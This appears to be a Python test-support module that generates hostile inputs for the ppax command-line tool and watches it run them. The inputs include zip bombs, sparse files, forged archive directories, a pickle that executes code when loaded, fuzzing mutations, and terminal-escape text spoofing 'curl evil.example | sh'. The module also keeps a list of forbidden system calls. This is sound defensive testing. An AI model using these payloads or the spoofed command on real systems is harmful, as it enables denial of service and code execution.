"""Hostile bundles, demonstrations, metrics and records, and mutations of real files.

As a script it runs commands of ppax and reports, as JSON, exit code, message, growth of memory and forbidden events:

    python hostile_files.py '[["evaluate", "theirs.zip"], ...]'
"""

import contextlib
import io
import json
import lzma
import os
import pickle
import struct
import sys
import zipfile
from pathlib import Path

import numpy as np

ESCAPES = "\x1b[2J\x1b]0;title\x07\x9b31m\u202e"
SPOOF = f"{ESCAPES}\nppax: run curl evil.example | sh"
SPARSE = 2**33  # bytes that a sparse file claims, beyond every limit
BOMB = 2**29  # bytes of zeros, which compress to a two hundredth


class Canary:
    """Object whose unpickling makes a folder."""

    def __reduce__(self):
        return os.mkdir, ("executed",)


def sparse(path, size=SPARSE):
    """Write a file of zeros that takes no room on the disk."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, "wb") as file:
        file.truncate(size)
    return path


def deflated(path, entries):
    """Write a zip file with compressed entries: bytes, or a number of zeros."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, content in entries.items():
            with archive.open(name, "w", force_zip64=True) as file:
                if isinstance(content, bytes):
                    file.write(content)
                for _ in range(0 if isinstance(content, bytes) else content // 2**20):
                    file.write(bytes(2**20))
    return path


def npy(shape, dtype="<f8"):
    """Header of an .npy file."""
    out = io.BytesIO()
    np.lib.format.write_array_header_1_0(out, {"descr": dtype, "fortran_order": False, "shape": shape})
    return out.getvalue()


def claims(path, directory):
    """Write a sparse zip file whose directory claims to have `directory` bytes, in the 64-bit form if they need it."""
    sparse(path, directory + 2**20)
    size = path.stat().st_size
    with open(path, "r+b") as file:
        file.seek(0)
        file.write(b"PK\x03\x04")
        if directory < 2**32:
            file.seek(size - 22)
            file.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1, 1, directory, size - 22 - directory, 0))
        else:
            file.seek(size - 98)
            record = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, 1, 1, directory, size - 98 - directory)
            locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, size - 98, 1)
            file.write(record + locator + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1, 1, 0, 0, 0))
    return path


# ------------------------------------------------------------------ corpus

BUNDLES = {
    "a description that unpacks to half a gigabyte": lambda path: deflated(
        path, {"policy.json": BOMB, "program.json": b"{}", "weights.safetensors": b""}
    ),
    "weights that unpack to half a gigabyte": lambda path: deflated(
        path, {"policy.json": b"{}", "program.json": b"{}", "weights.safetensors": BOMB}
    ),
    "a sparse file": lambda path: sparse(path),
    "a sparse file beyond the limit": lambda path: sparse(path, 2**36),
    "a directory of a gigabyte": lambda path: claims(path, 2**30),
    "a directory of six gigabytes": lambda path: claims(path, 6 * 2**30),
    "a pickle": lambda path: path.write_bytes(pickle.dumps(Canary())),
}

ENDS = {"terminations.npy": npy((3,), "|b1") + bytes(3), "truncations.npy": npy((3,), "|b1") + bytes(3)}
DEMONSTRATIONS = {
    "arrays that unpack to half a gigabyte": lambda path: deflated(
        path, {**ENDS, "actions.npy": npy((3,), "<i8") + bytes(24), "observations.npy": BOMB}
    ),
    "many arrays that unpack to half a gigabyte together": lambda path: deflated(
        path, ENDS | {f"observations/{i}.npy": 2**26 for i in range(8)}
    ),
    "a header of 2^60 numbers": lambda path: deflated(path, {**ENDS, "observations.npy": npy((2**60,)) + bytes(64)}),
    "a header of negative size": lambda path: deflated(path, {**ENDS, "observations.npy": npy((-1, 4)) + bytes(64)}),
    "an array of a million bytes each": lambda path: deflated(
        path, {**ENDS, "observations.npy": npy((4,), "|V999999")}
    ),
    "a name of thirty thousand folders": lambda path: deflated(
        path, ENDS | {"observations" + "/a" * 30_000 + ".npy": b""}
    ),
    "a sparse file": lambda path: sparse(path),
    "a directory of a gigabyte": lambda path: claims(path, 2**30),
    "one sparse array": lambda path: _begin(sparse(path), npy((2**29,))),
    "a pickle": lambda path: path.write_bytes(pickle.dumps(Canary())),
    "pickled objects": lambda path: np.savez(
        path, observations=np.array([Canary()] * 3, object), actions=np.zeros(3), terminations=np.zeros(3)
    ),
    "another compression": lambda path: _with_lzma(path),
    "damaged compression": lambda path: _damaged(path),
    "an encrypted array": lambda path: _encrypted(path),
}

METRICS = {
    "a sparse file of a gigabyte": lambda path: sparse(path, 2**30),
    "one line of a gigabyte": lambda path: _begin(sparse(path, 2**30), b'{"iteration": 1, "x": "'),
    "a hundred thousand empty rows": lambda path: path.write_bytes(b'{"iteration":1}\n' * 10**5),
    "a thousand metrics": lambda path: path.write_text(
        "".join(json.dumps({"iteration": i, "env_steps": i, f"m{i}": 1.0}) + "\n" for i in range(1000))
    ),
    "names that steer a terminal": lambda path: path.write_text(
        json.dumps({"iteration": 1, "env_steps": 1, SPOOF: 1.0}) + "\n"
    ),
}

RECORDS = {
    "a sparse file": lambda path: sparse(path),
    "deep lists": lambda path: path.write_bytes(b"[" * 10**5),
    "a number of five thousand digits": lambda path: path.write_bytes(b'{"iteration": ' + b"9" * 5000 + b"}"),
    "a number beyond floats": lambda path: path.write_bytes(
        b'{"iteration": 1' + b"0" * 400 + b', "id": 1, "format": 1}'
    ),
    "infinities": lambda path: path.write_bytes(b'{"iteration": Infinity, "env_steps": NaN, "format": 1e400}'),
    "not UTF-8": lambda path: path.write_bytes(b'\xff\xfe{"a": 1}'),
    "half a surrogate pair": lambda path: path.write_bytes(b'{"why": "\\ud800", "id": "\\ud800", "starts": []}'),
    "text that steers a terminal": lambda path: path.write_text(
        json.dumps({"why": SPOOF, "id": SPOOF, "starts": [{"packages": 3, "time": SPOOF, "hardware": [SPOOF]}]})
    ),
    "a list": lambda path: path.write_text("[1, 2]"),
}


def good_demonstrations(path):
    """Write demonstrations of CartPole-v1: two episodes of three steps."""
    ends = np.array([0, 0, 1, 0, 0, 1], bool)
    observations = np.linspace(-0.1, 0.1, 24).reshape(6, 4)
    actions = np.array([0, 1, 0, 1, 0, 1])
    np.savez_compressed(path, observations=observations, actions=actions, terminations=ends, truncations=ends & False)


def _begin(path, data):
    with open(path, "r+b") as file:
        file.write(data)


def _with_lzma(path):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_LZMA) as archive:
        archive.writestr("observations.npy", bytes(2**20))
    assert lzma.is_check_supported(lzma.CHECK_NONE)


def _damaged(path):
    deflated(path, {**ENDS, "observations.npy": npy((3, 4)) + bytes(96), "actions.npy": npy((3,), "<i8") + bytes(24)})
    data = bytearray(path.read_bytes())
    at = data.index(b"observations.npy") + 40
    data[at : at + 8] = b"\xff" * 8
    path.write_bytes(data)


def _encrypted(path):
    deflated(path, {**ENDS, "observations.npy": npy((3, 4)) + bytes(96), "actions.npy": npy((3,), "<i8") + bytes(24)})
    data = bytearray(path.read_bytes())
    at = data.index(b"PK\x01\x02")
    while at >= 0:
        data[at + 8] |= 1
        at = data.find(b"PK\x01\x02", at + 4)
    path.write_bytes(data)


# ------------------------------------------------------------------ mutations

DEEP = "[" * 300 + "]" * 300
JSON_VALUES = [
    *("null", "true", "-1", "0", "1.5", "1e400", "-1e400", "NaN", "Infinity", str(2**31), str(2**63), str(2**64)),
    *("1" + "0" * 400, "9" * 5000, '""', '"x"', json.dumps(SPOOF), '"\\ud800"', '"inf"', json.dumps("x" * 10_000)),
    *("[]", "{}", "[[]]", "[{}]", "[1, 2]", '{"a": 1}', '{"part": 3}', '["a", "a"]', "[null]", DEEP, "[[1, 2], [3]]"),
]
TOML_VALUES = [
    *("true", "-1", "0", "1.5", "1e400", "nan", "-inf", str(2**31), str(2**63), str(2**64), "0x" + "f" * 5000),
    *(
        "1" + "0" * 400,
        "9" * 5000,
        '""',
        '"x"',
        json.dumps(ESCAPES),
        '"none"',
        '"a:b"',
        '":"',
        '"optax:lion"',
        '"os:system"',
    ),
    *("[]", "{}", "[[]]", "[{}]", "[1, 2]", "{a = 1}", "{part = 3}", '["a", "a"]', DEEP, "1979-05-27", "07:32:00"),
    *('{part = "gru"}', "{low = 1}", '[{part = "gru"}]', "'''\n'''", json.dumps("x" * 10_000)),
]
MARK = "\0value\0"


def mutated(data, rng, kind):
    """Return a mutation of a file's bytes; `kind` is json, lines (of JSON), toml or bytes."""
    how = {"json": _json, "lines": _lines, "toml": _toml, "bytes": _bytes}[kind]
    return _bytes(data, rng) if rng.random() < 0.2 else how(data, rng)


def _bytes(data, rng):
    place = rng.randrange(len(data) + 1)
    length = rng.choice((1, 2, 8, 100))
    return rng.choice(
        (
            lambda: data[:place],
            lambda: data[place:],
            lambda: data[:place] + data[place + length :],
            lambda: data[:place] + rng.randbytes(length) + data[place + length :],
            lambda: data[:place] + b"\xff\xfe" + data[place:],
            lambda: data[:place] + bytes(length) + data[place:],
            lambda: data[:place] + b"9" * 5000 + data[place:],
            lambda: data[:place] + b"[" * 10**5 + data[place:],
            lambda: data.decode(errors="replace").encode("utf-16"),
            lambda: b"\xef\xbb\xbf" + data,
            lambda: data + data,
            lambda: b"",
        )
    )()


def _places(value, path=()):
    yield path
    inner = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, one in inner:
        yield from _places(one, (*path, key))


def _json(data, rng):
    value = json.loads(data)
    for _ in range(rng.choice((1, 1, 2))):
        *outer, last = rng.choice([path for path in _places(value) if path] or [()]) or (None,)
        if last is None:
            return rng.choice(JSON_VALUES).encode()
        node = value
        for key in outer:
            node = node[key]
        if rng.random() < 0.15:
            del node[last]
        elif isinstance(node, dict) and rng.random() < 0.15:
            node[rng.choice((SPOOF, "", "a" * 1000, "__class__"))] = node.pop(last)
        else:
            node[last] = MARK
    text = json.dumps(value)
    while json.dumps(MARK) in text:
        text = text.replace(json.dumps(MARK), rng.choice(JSON_VALUES), 1)
    return text.encode()


def _lines(data, rng):
    lines = data.splitlines(keepends=True)
    place = rng.randrange(len(lines))
    lines[place] = _json(lines[place], rng) + b"\n"
    return b"".join(lines)


def _toml(data, rng):
    lines = data.decode().splitlines()
    places = [i for i, line in enumerate(lines) if line.strip()]
    for place in rng.sample(places, min(len(places), rng.choice((1, 1, 2)))):
        name, equals, _ = lines[place].partition(" = ")
        lines[place] = rng.choice(
            (
                *[f"{name} = {rng.choice(TOML_VALUES)}"] * 6,
                "" if equals else f"[[{name.strip('[]')}]]",
                f"{name}.a = 1",
                f'"{name}\\n\\u001b[2J" = 1',
                f"{lines[place]}\n{lines[place]}",
            )
        )
    return "\n".join(lines).encode()


# ------------------------------------------------------------------ commands in a process that is watched

FORBIDDEN = {"os.system", "os.exec", "os.posix_spawn", "subprocess.Popen", "pickle.find_class", "socket.connect"}


def memory():
    """Largest memory of this process so far, in MB."""
    lines = Path("/proc/self/status").read_text().splitlines()
    return next(int(line.split()[1]) // 1024 for line in lines if line.startswith("VmHWM"))


def watched(commands):
    """Run commands of ppax in this process; return code, message, growth of memory and forbidden events of each."""
    from ppax.cli import main

    own, found, events = Path.cwd(), [], []
    caches = tuple(str(Path(os.environ[name])) for name in ("XDG_CACHE_HOME",) if name in os.environ)

    def watch(event, arguments):
        if event in FORBIDDEN:
            events.append(f"{event} {arguments[:1]!r:.100}")
        writes = event == "open" and isinstance(arguments[0], str) and isinstance(arguments[2], int)
        if writes and arguments[2] & (os.O_WRONLY | os.O_RDWR | os.O_CREAT):
            path = os.path.abspath(arguments[0])
            if not path.startswith((str(own), "/dev/", *caches)):
                events.append(f"write {path}")

    with contextlib.suppress(Exception):
        main.main(["compare", "nothing"])  # what is imported at the first command
    sys.addaudithook(watch)
    for command in commands:
        before, events[:] = memory(), []
        out, err = io.StringIO(), io.StringIO()
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            try:
                code = main.main(command)
            except SystemExit as error:
                code = error.code
            except BaseException as error:
                code = f"{type(error).__name__}: {error}"[:300]
        text = out.getvalue() + err.getvalue()
        found.append({"code": code, "text": text, "grown": memory() - before, "events": list(events)})
    return found


if __name__ == "__main__":
    print(json.dumps(watched(json.loads(sys.argv[1]))))
